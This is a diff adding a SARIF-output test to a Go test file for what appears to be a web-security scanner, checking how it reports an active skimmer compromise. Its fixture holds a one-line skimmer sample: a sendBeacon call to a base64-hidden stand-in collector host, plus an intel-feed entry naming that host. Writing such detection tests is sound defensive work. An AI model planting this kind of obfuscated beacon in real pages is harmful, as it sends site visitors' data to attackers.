@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/shieldscan/shieldscan/internal/sarifcheck"
 )
 
 // TestInvestigateBadInput: --investigate without what it needs is exit 2 with one line naming
@@ -67,5 +69,41 @@ func TestInvestigateBadInput(t *testing.T) {
 				t.Errorf("run(%q) printed the token", tt.args)
 			}
 		})
+	}
+}
+
+// TestInvestigateSARIF: a report with an active compromise is valid SARIF for GitHub, the same
+// bytes on every run, and its result carries each indicator.
+func TestInvestigateSARIF(t *testing.T) {
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	tmp := t.TempDir()
+	site := filepath.Join(tmp, "site")
+	os.MkdirAll(site, 0o755)
+	os.WriteFile(filepath.Join(site, "checkout.html"), []byte("<script src=\"https://cdn.shop-widgets.example/w.js\"></script>\n"), 0o644)
+	script := filepath.Join(tmp, "w.js")
+	os.WriteFile(script, []byte(`navigator.sendBeacon(atob("aHR0cHM6Ly9jb2xsZWN0LmV2aWwtc3RhdHMuZXhhbXBsZS9j"), 1);`+"\n"), 0o644)
+	feed := filepath.Join(tmp, "feed.txt")
+	os.WriteFile(feed, []byte("collect.evil-stats.example\tSkimmer\n"), 0o644)
+	args := []string{"scan", "--format", "sarif", "--expand", "--offline", "--intel-file", feed,
+		"--script-source", "https://cdn.shop-widgets.example/w.js=" + script, "-r", "https://cdn.shop-widgets.example/w.js", site}
+	var first []byte
+	for i := range 2 {
+		var stdout, stderr bytes.Buffer
+		if code := run(context.Background(), args, strings.NewReader(""), &stdout, &stderr); code != exitFindings {
+			t.Fatalf("run(%q) = %d, want %d: %s", args, code, exitFindings, stderr.String())
+		}
+		if err := sarifcheck.Validate(stdout.Bytes()); err != nil {
+			t.Fatalf("run(%q) wrote invalid SARIF: %v", args, err)
+		}
+		for _, want := range []string{`"ruleId": "active-compromise"`, `"indicator.present": {`, `"indicator.malicious-resource": {`, `"indicator.malicious-source": {`, `"playbook.next": "contain now`} {
+			if !strings.Contains(stdout.String(), want) {
+				t.Errorf("run(%q) SARIF lacks %s", args, want)
+			}
+		}
+		if i == 0 {
+			first = stdout.Bytes()
+		} else if !bytes.Equal(first, stdout.Bytes()) {
+			t.Errorf("run(%q) gave different bytes on a second run", args)
+		}
 	}
 }
